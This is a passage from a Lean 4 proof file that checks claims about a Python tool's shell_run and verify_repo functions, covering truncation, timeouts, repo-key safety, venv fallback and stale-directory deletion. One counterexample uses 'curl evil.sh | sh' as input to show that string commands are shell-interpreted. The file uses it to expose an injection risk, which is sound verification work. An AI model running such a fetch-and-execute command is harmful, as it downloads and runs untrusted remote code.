command whose stdout is one character longer than MAX_OUTPUT_CHARS is
returned verbatim: the stored stdout equals the captured stream, its
length exceeds the cap and it carries no marker. -/
theorem shell_run_no_truncation_counterex :
    dget (shell_run (.argv ["git", "clone"]) none 120 (.completed 0 bigOut "")) "stdout"
      = .ok (.vStr bigOut)
    ∧ MAX_OUTPUT_CHARS < bigOut.length
    ∧ pyStartsWith bigOut "[truncated" = false := by
  refine ⟨rfl, ?_, by decide⟩
  have hlen : bigOut.length = 12001 := by
    show (List.replicate 12001 'a').length = 12001
    exact List.length_replicate 12001 'a'
  rw [hlen]
  decide

/-- C2 amended: shell_run performs no truncation at all.  For every
completed command the returned dictionary stores the captured stdout and
stderr verbatim, whatever their length; the cap MAX_OUTPUT_CHARS is
declared in the source but never applied. -/
theorem shell_run_streams_returned_verbatim (cmd : PyCmd) (cwd : Option String)
    (t rc : Int) (out err : String) :
    dget (shell_run cmd cwd t (.completed rc out err)) "stdout" = .ok (.vStr out)
    ∧ dget (shell_run cmd cwd t (.completed rc out err)) "stderr" = .ok (.vStr err) :=
  ⟨rfl, rfl⟩

/-- C3 counterexample: the claim says a timeout yields exit code 124 and
a stderr containing a timeout marker.  A timed-out command returns ok
false, but the result dictionary has no exit_code key, no returncode
key and no stderr key at all, so there is no 124 sentinel and no
timeout-marked stderr. -/
theorem shell_run_timeout_no_sentinel_counterex :
    (dget (shell_run (.argv ["sleep", "9"]) none 1
        (.timeoutExpired "Command timed out after 1 seconds")) "ok" = .ok (.vBool false))
    ∧ (dget (shell_run (.argv ["sleep", "9"]) none 1
        (.timeoutExpired "Command timed out after 1 seconds")) "exit_code"
        = .error (.keyError "exit_code"))
    ∧ (dget (shell_run (.argv ["sleep", "9"]) none 1
        (.timeoutExpired "Command timed out after 1 seconds")) "returncode"
        = .error (.keyError "returncode"))
    ∧ (dget (shell_run (.argv ["sleep", "9"]) none 1
        (.timeoutExpired "Command timed out after 1 seconds")) "stderr"
        = .error (.keyError "stderr")) := by
  exact ⟨rfl, rfl, rfl, rfl⟩

/-- C3 amended: shell_run returns rather than raises on a timeout and on
an executable-not-found condition, with ok false and a descriptive
error classification field in both cases (plus a hint field for the
not-found case); but a timeout result carries no exit code and no
stderr field, so no 124 sentinel and no timeout marker exist. -/
theorem shell_run_timeout_notfound_result_shape (cmd : PyCmd) (cwd : Option String)
    (t : Int) (m : String) :
    (dget (shell_run cmd cwd t (.timeoutExpired m)) "ok" = .ok (.vBool false))
    ∧ (dget (shell_run cmd cwd t (.timeoutExpired m)) "error"
        = .ok (.vStr ("TimeoutExpired: " ++ m)))
    ∧ (dget (shell_run cmd cwd t (.timeoutExpired m)) "returncode"
        = .error (.keyError "returncode"))
    ∧ (dget (shell_run cmd cwd t (.timeoutExpired m)) "stderr"
        = .error (.keyError "stderr"))
    ∧ (dget (shell_run cmd cwd t (.fileNotFound m)) "ok" = .ok (.vBool false))
    ∧ (dget (shell_run cmd cwd t (.fileNotFound m)) "error"
        = .ok (.vStr ("FileNotFoundError: " ++ m)))
    ∧ (dget (shell_run cmd cwd t (.fileNotFound m)) "hint" = .ok (.vStr notFoundHint)) :=
  ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩

/-- C4 counterexample: the claim says no input is ever executed as a
shell-interpreted string.  shell_run computes use_shell as
isinstance(cmd, str), so a string command runs with shell
interpretation enabled, as the result records. -/
theorem shell_run_string_cmd_uses_shell_counterex :
    use_shell (.str "echo owned && curl evil.sh | sh") = true
    ∧ dget (shell_run (.str "echo owned && curl evil.sh | sh") none 120 (.completed 0 "" ""))
        "shell" = .ok (.vBool true) := by
  exact ⟨rfl, rfl⟩

/-- C4 amended: shell interpretation is disabled exactly when the
command is an argument vector; a string command is run through the
shell.  Every verify_repo call site passes an argument vector, as the
runShell calls inside verify_repo show. -/
theorem shell_run_vector_disables_shell (args : List String) (s : String)
    (cwd : Option String) (t rc : Int) (out err : String) :
    use_shell (.argv args) = false
    ∧ use_shell (.str s) = true
    ∧ dget (shell_run (.argv args) cwd t (.completed rc out err)) "shell"
        = .ok (.vBool false) :=
  ⟨rfl, rfl, rfl⟩

/-- C5 counterexample: the claim says every derived key contains only
alphanumerics, dash and underscore.  The owner capture of the regular
expression admits any non-slash character, so a dotted owner flows into
the key unsanitised. -/
theorem repo_key_unsafe_char_counterex :
    _repo_key_from_url "https://github.com/my.owner/repo" = "my.owner__repo"
    ∧ sandboxKeySafe (_repo_key_from_url "https://github.com/my.owner/repo") = false := by
  exact ⟨by decide, by decide⟩

/-- C5 amended: key derivation is deterministic — the function is pure,
reading no clock and no global state, so equal URLs give equal keys —
and the key is never empty (every branch of _repo_key_from_url yields
owner__repo, segment__segment or the literal unknown__repo, all of
which contain the two underscore characters); but the key is not
restricted to alphanumerics, dash and underscore. -/
theorem repo_key_deterministic_nonempty (url : String) :
    0 < (_repo_key_from_url url).length ∧ _repo_key_from_url url = _repo_key_from_url url := by
  refine ⟨?_, rfl⟩
  unfold _repo_key_from_url
  have h2 : ("__" : String).length = 2 := rfl
  split
  · rw [String.length_append, String.length_append, h2]
    omega
  · split
    · rw [String.length_append, String.length_append, h2]
      omega
    · decide

/-- C6: the overlay applier.  When the overlay directory is absent the
copy is a successful no-op with count zero; otherwise the recorded
count equals the number of walked overlay files, and every overlay file
ends up at its relative path under the repository directory with the
overlay content, overwriting whatever was there (the distinctness
hypothesis states that the walked relative paths are unique, as they
are for a real directory tree). -/
theorem copy_overlay_correct (fs : FS) (od rd : FPath) :
    (isdir fs od = false → _copy_overlay fs od rd = (fs, 0))
    ∧ (_copy_overlay fs od rd).2 = (if isdir fs od then (overlayFiles fs od).length else 0)
    ∧ (isdir fs od = true → ((overlayFiles fs od).map Prod.fst).Nodup →
        ∀ pc ∈ overlayFiles fs od,
          fileAt (_copy_overlay fs od rd).1 (rd ++ pc.1) = some pc.2) := by
  refine ⟨fun h => by simp [_copy_overlay, h], ?_, fun h hnd pc hm => ?_⟩
  · by_cases h : isdir fs od
    · simp [_copy_overlay, h, copy_foldl_count]
    · simp [_copy_overlay, Bool.not_eq_true _ ▸ h]
  · simp only [_copy_overlay, h]
    simpa using copy_foldl_writes rd _ (fs, 0) hnd pc hm

/-- C6 witness: a concrete overlay with two files, one of which
overwrites a pre-existing repository file; the count is two and the
overwritten file holds the overlay content. -/
theorem copy_overlay_correct_witness :
    fileAt (_copy_overlay
        [.dir ["_sandbox", "k", "overlay"],
         .file ["_sandbox", "k", "overlay", "a.txt"] "new",
         .file ["_sandbox", "k", "overlay", "d", "b.txt"] "y",
         .file ["_verify", "k", "repo", "a.txt"] "old"]
        ["_sandbox", "k", "overlay"] ["_verify", "k", "repo"]).1
      ["_verify", "k", "repo", "a.txt"] = some "new"
    ∧ (_copy_overlay
        [.dir ["_sandbox", "k", "overlay"],
         .file ["_sandbox", "k", "overlay", "a.txt"] "new",
         .file ["_sandbox", "k", "overlay", "d", "b.txt"] "y",
         .file ["_verify", "k", "repo", "a.txt"] "old"]
        ["_sandbox", "k", "overlay"] ["_verify", "k", "repo"]).2 = 2 := by
  refine ⟨?_, by decide⟩
  exact (copy_overlay_correct _ _ _).2.2 (by decide) (by decide) (["a.txt"], "new") (by decide)

/-- C7 counterexample: the claim says the build plan commands never use
the ambient system interpreter.  The source computes the interpreter as
_venv_python(repo_dir) or "python", so when none of the three .venv
candidate paths exists, every install, byte-compile and test command is
built with the ambient interpreter name python. -/
theorem venv_fallback_ambient_counterex :
    _venv_python [FsEntry.dir ["_verify", "o__r", "repo"]] ["_verify", "o__r", "repo"] = none
    ∧ vpyOf [FsEntry.dir ["_verify", "o__r", "repo"]] ["_verify", "o__r", "repo"] = "python"
    ∧ (pipUpgradeCmd (vpyOf [FsEntry.dir ["_verify", "o__r", "repo"]]
        ["_verify", "o__r", "repo"])).head? = some "python"
    ∧ (pipInstallReqCmd (vpyOf [FsEntry.dir ["_verify", "o__r", "repo"]]
        ["_verify", "o__r", "repo"])).head? = some "python"
    ∧ (compileallCmd (vpyOf [FsEntry.dir ["_verify", "o__r", "repo"]]
        ["_verify", "o__r", "repo"])).head? = some "python"
    ∧ (pytestCmd (vpyOf [FsEntry.dir ["_verify", "o__r", "repo"]]
        ["_verify", "o__r", "repo"])).head? = some "python" := by
  exact ⟨rfl, rfl, rfl, rfl, rfl, rfl⟩

/-- C7 amended: whenever one of the three candidate interpreter paths
inside the run's .venv exists, the interpreter string is that candidate
— a path under repo_dir/.venv — and every dependency-install,
byte-compile and test command of the python plan is built with it;
otherwise the plan falls back to the ambient interpreter name python. -/
theorem python_plan_uses_venv_interpreter (fs : FS) (rd p : FPath)
    (h : _venv_python fs rd = some p) :
    vpyOf fs rd = pathStr p
    ∧ (rd ++ [".venv"]).isPrefixOf p = true
    ∧ (pipUpgradeCmd (vpyOf fs rd)).head? = some (pathStr p)
    ∧ (pipInstallReqCmd (vpyOf fs rd)).head? = some (pathStr p)
    ∧ (pipInstallEditableCmd (vpyOf fs rd)).head? = some (pathStr p)
    ∧ (compileallCmd (vpyOf fs rd)).head? = some (pathStr p)
    ∧ (pytestCmd (vpyOf fs rd)).head? = some (pathStr p) := by
  have hv : vpyOf fs rd = pathStr p := by simp [vpyOf, h]
  have hmem := List.mem_of_find?_eq_some h
  refine ⟨hv, ?_, by simp [pipUpgradeCmd, hv], by simp [pipInstallReqCmd, hv],
    by simp [pipInstallEditableCmd, hv], by simp [compileallCmd, hv], by simp [pytestCmd, hv]⟩
  simp only [List.mem_cons, List.not_mem_nil, or_false] at hmem
  rcases hmem with rfl | rfl | rfl
  · rw [show rd ++ [".venv", "bin", "python"] = (rd ++ [".venv"]) ++ ["bin", "python"] by simp]
    exact isPrefixOf_self_append _ _
  · rw [show rd ++ [".venv", "Scripts", "python.exe"]
        = (rd ++ [".venv"]) ++ ["Scripts", "python.exe"] by simp]
    exact isPrefixOf_self_append _ _
  · rw [show rd ++ [".venv", "Scripts", "python"]
        = (rd ++ [".venv"]) ++ ["Scripts", "python"] by simp]
    exact isPrefixOf_self_append _ _

/-- C7 witness: with the posix candidate present, the pip upgrade
command is built with the venv interpreter path. -/
theorem python_plan_uses_venv_interpreter_witness :
    _venv_python [FsEntry.file ["_verify", "o__r", "repo", ".venv", "bin", "python"] ""]
        ["_verify", "o__r", "repo"]
      = some ["_verify", "o__r", "repo", ".venv", "bin", "python"]
    ∧ (pipUpgradeCmd (vpyOf
        [FsEntry.file ["_verify", "o__r", "repo", ".venv", "bin", "python"] ""]
        ["_verify", "o__r", "repo"])).head?
      = some "_verify/o__r/repo/.venv/bin/python" := by
  have h := python_plan_uses_venv_interpreter
    [FsEntry.file ["_verify", "o__r", "repo", ".venv", "bin", "python"] ""]
    ["_verify", "o__r", "repo"] ["_verify", "o__r", "repo", ".venv", "bin", "python"]
    (by decide)
  refine ⟨by decide, ?_⟩
  rw [h.2.2.1]
  decide

/-- C8: the claim says a python project without tests yields a returned
report with ok true and an explicit skipped test step.  The code never
gets there: with an existing working copy that holds a requirements
manifest and no tests, and with every external command succeeding,
verify_repo raises KeyError on the key exit_code while recording its
very first step, so no report — and no skipped-test record — is ever
produced. -/
theorem python_no_tests_raises_before_report :
    (verify_repo idEnv "https://github.com/o/r" "main" none 180 300 300 300
      [FsEntry.dir ["_verify", "o__r", "repo", ".git"],
       FsEntry.dir ["_verify", "o__r", "repo"],
       FsEntry.file ["_verify", "o__r", "repo", "requirements.txt"] "requests"]).1
      = .error (.keyError "exit_code") := by
  exact rfl

/-- C9: the claim says the first failing step becomes the last record of
the returned report and later phases are skipped.  When the clone fails
(exit status 128), the code does not return a report ending in the
failing clone record: it raises KeyError on the key exit_code while
building that record, before the failure is even recorded. -/
theorem failing_clone_raises_before_report :
    (verify_repo cloneFailEnv "https://github.com/o/r" "main" none 180 300 300 300 []).1
      = .error (.keyError "exit_code") := by
  exact rfl

/-- C10: when repo_dir exists without a .git subdirectory, verify_repo
removes the whole pre-existing repo_dir tree — including a caller file
at any relative path inside it — before issuing the clone command.
Under an oracle whose processes leave the filesystem untouched, the
filesystem verify_repo hands back contains no file and no directory at
or below repo_dir: the deletion already happened at clone time. -/
theorem verify_repo_deletes_stale_repo_dir (s0 : String) (sr rest : FPath) (c : String) :
    (isdir [FsEntry.dir ["_verify", "o__r", "repo"],
            FsEntry.file (["_verify", "o__r", "repo"] ++ s0 :: sr) c]
        ["_verify", "o__r", "repo"] = true)
    ∧ (isdir [FsEntry.dir ["_verify", "o__r", "repo"],
              FsEntry.file (["_verify", "o__r", "repo"] ++ s0 :: sr) c]
        (["_verify", "o__r", "repo"] ++ [".git"]) = false)
    ∧ (fileAt (verify_repo idEnv "https://github.com/o/r" "main" none 180 300 300 300
          [FsEntry.dir ["_verify", "o__r", "repo"],
           FsEntry.file (["_verify", "o__r", "repo"] ++ s0 :: sr) c]).2
        (["_verify", "o__r", "repo"] ++ rest) = none)
    ∧ (isdir (verify_repo idEnv "https://github.com/o/r" "main" none 180 300 300 300
          [FsEntry.dir ["_verify", "o__r", "repo"],
           FsEntry.file (["_verify", "o__r", "repo"] ++ s0 :: sr) c]).2
        (["_verify", "o__r", "repo"] ++ rest) = false) := by
  exact ⟨rfl, rfl, rfl, rfl⟩

end PMGR
